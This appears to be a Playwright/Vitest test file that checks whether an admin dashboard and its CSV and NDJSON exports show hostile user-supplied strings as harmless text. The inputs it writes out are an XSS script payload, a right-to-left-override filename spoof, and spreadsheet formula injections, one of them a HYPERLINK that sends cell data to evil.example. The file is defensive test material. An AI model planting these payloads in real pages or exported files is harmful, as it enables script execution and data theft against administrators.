/** Hostile names and reasons, in the admin's browser and in the files that it saves. */
import type { Page } from 'playwright-core'
import { beforeEach, describe, expect, test } from 'vitest'
import { ALL_MODELS } from '../../src/ledger/documents.ts'
import { goTo, press, refresh, saved, useAdminBrowser } from '../support/admin-browser.ts'
import { admitOf, settleOf } from '../support/commands.ts'
import { parseCsv } from '../support/csv.ts'
import { KINDS } from '../support/gateways.ts'
import { seededId } from '../support/seed.ts'
import { useWorld } from '../support/world.ts'

const SCRIPT = `"'><script>pwned = 1</script><img src=/favicon.svg onload="pwned = 1">&lt;`
const TURNED = '\u202Egpj.\u2067exe \u0007'
const LONG = 'long'.repeat(2500)
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"name")',
  '@SUM(1)',
  '+1+1',
  '-1+1',
  '\t=1',
]
const HOSTILE = [SCRIPT, TURNED, LONG, ...FORMULAS]

const USER = seededId(1)

const world = useWorld()
const { enter } = useAdminBrowser()

/** Records a request with only hostile texts. It bypasses the checks that would refuse such a request. */
async function use(text: string): Promise<void> {
  const id = `request ${text}`
  const admit = admitOf({ id, user: USER, model: text, ip: text, now: Date.now() })
  await world.store.execute(admit)
  await world.store.execute(settleOf(admit, { session: text, route: text }))
}

async function block(text: string): Promise<void> {
  const now = Date.now()
  const command = { op: 'block', user: USER, model: text, now, ip: text } as const
  await world.store.execute({ ...command, block: { at: now, reason: text } })
}

beforeEach(async () => {
  for (const text of HOSTILE) {
    await use(text)
    await block(text)
  }
})

/** The harm on a page. */
const harm = (page: Page) =>
  page.evaluate(() => {
    const wrong: string[] = []
    if ('pwned' in globalThis) wrong.push('a script ran')
    for (const one of document.querySelectorAll(
      'script:not([src^="/assets/"]), main img, main svg script',
    ))
      wrong.push(one.outerHTML)
    const wide = document.documentElement.scrollWidth - innerWidth
    if (wide > 0) wrong.push(`${wide} px too wide`)
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    for (let node = texts.nextNode(); node; node = texts.nextNode()) {
      const text = node.textContent ?? ''
      const apart = node.parentElement?.closest('bdi, option, svg title')
      if (/[\u202A-\u202E\u2066-\u2069]/.test(text) && !apart) wrong.push(text)
    }
    for (const one of document.querySelectorAll('main > *, .card, .scroll, tr')) {
      const { height, right } = one.getBoundingClientRect()
      if (one.matches('tr') && height > 200) wrong.push(`a row of ${height} px`)
      const scrolls = one.parentElement?.closest('.scroll')
      if (right > innerWidth + 1 && !scrolls)
        wrong.push(`${one.outerHTML.slice(0, 80)} ends at ${right}`)
    }
    return wrong
  })

describe.each(KINDS)('on %s', (kind) => {
  // The pages are the same on both platforms.
  test.each(kind === 'node' ? [390, 1440] : [390])(
    'at %i px, pages show them as text in the right place',
    async (width) => {
      const gateway = await world.gateway(kind)
      const admin = await enter(gateway)
      const { page } = admin
      await page.setViewportSize({ width, height: 844 })
      for (const path of ['/admin', '/admin/requests', `/admin/users/${USER}`]) {
        await goTo(admin, path)
        expect(await page.locator('#events').textContent()).toContain(SCRIPT)
        expect(await harm(page)).toEqual([])
        await use(`${SCRIPT} at ${path}`)
        await refresh(admin)
        const shown = page.locator('#events td').getByText(`${SCRIPT} at ${path}`)
        await shown.filter({ visible: true }).first().waitFor()
        expect(await harm(page)).toEqual([])
      }
      // Forms send these names back unchanged.
      await press(page, `Unblock ${SCRIPT}`)
      const { blocks = {} } = (await world.store.user(USER))?.profile ?? {}
      expect(Object.keys(blocks).sort()).toEqual(HOSTILE.filter((text) => text !== SCRIPT).sort())
    },
  )

  test('files contain them as text that no spreadsheet executes', async () => {
    const { page } = await enter(await world.gateway(kind))
    const users = parseCsv((await saved(page, 'Export users as csv')).text)
    const events = parseCsv((await saved(page, 'Export events as csv')).text)
    const days = parseCsv((await saved(page, 'Export days as csv')).text)
    expect([users.length, events.length, days.length]).toEqual([
      HOSTILE.length,
      HOSTILE.length,
      HOSTILE.length + 1,
    ])
    const runs = [...users, ...events, ...days]
      .flatMap((row) => Object.values(row))
      .filter((cell) => /^[\s]*[=+\-@]|^[\t\r\n]/.test(cell))
    expect(runs).toEqual([])
    const shown = HOSTILE.map((text) => (FORMULAS.includes(text) ? `'${text}` : text)).sort()
    const sorted = (rows: typeof users, column: string) => rows.map((row) => row[column]).sort()
    expect(sorted(users, 'model')).toEqual(shown)
    expect(sorted(users, 'blockReason')).toEqual(shown)
    for (const column of ['model', 'session', 'route'])
      expect(sorted(events, column)).toEqual(shown)
    expect(sorted(days, 'model')).toEqual([...shown, ALL_MODELS].sort())

    const lines = (await saved(page, 'Export events as ndjson')).text.trim().split('\n')
    const models = lines.map((line) => (JSON.parse(line) as { model: string }).model)
    expect(models.sort()).toEqual(HOSTILE.toSorted())
  })

  test('the user agent of a browser is not stored', async () => {
    const { url } = await world.gateway(kind)
    const agent = `Mozilla/5.0 ${SCRIPT}`
    const headers = { 'x-user-token': 'token-of-a-user', 'user-agent': agent }
    const call = { method: 'POST', headers, body: '{"prompt":"Hello"}' }
    expect((await fetch(`${url}/api/groq`, call)).status).toBe(200)
    const { page } = await enter(await world.gateway(kind))
    expect(JSON.stringify(world.upstash.log)).not.toContain('Mozilla')
    expect(await page.content()).not.toContain('Mozilla')
  })
})
